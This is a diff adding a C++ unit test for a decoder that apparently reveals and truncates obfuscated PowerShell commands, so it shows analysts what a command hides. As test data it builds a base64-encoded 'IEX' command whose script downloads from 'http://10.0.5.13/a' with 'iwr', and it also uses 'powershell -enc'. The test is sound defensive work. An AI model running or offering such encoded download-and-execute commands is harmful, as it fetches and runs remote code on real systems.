@@ -58,6 +58,15 @@ TEST(Quoted, ASentenceShowsWhatItsCommandHidesAndWhoDecodedIt) {
   EXPECT_EQ(open.find("décodé"), open.npos) << open;
 }
 
+TEST(Quoted, CommentsOfHiddenTextAreLeftOutToo) {
+  const std::string script =
+      "\r\nfunction Invoke-X {\r\n <# .SYNOPSIS\n " + std::string(500, 'x') + " #>\r\n iwr http://10.0.5.13/a }";
+  const std::string command = "IEX ([Convert]::FromBase64String(\"" + base::base64(base::as_bytes(script)) + "\"))";
+  EXPECT_EQ(decoded_start(command), "function Invoke-X { … iwr http://10.0.5.13/a }");
+  EXPECT_LE(decoded_start("powershell -enc " + encoded(std::string(5000, ' ') + std::string(500, '.'))).size(),
+            kMostDecoded + std::string_view("…").size());
+}
+
 TEST(Quoted, WhatIsDecodedIsStillTextOfTheEvidence) {
   const auto words = sample::catalogue(base::Language::english);
   bool marked = false;
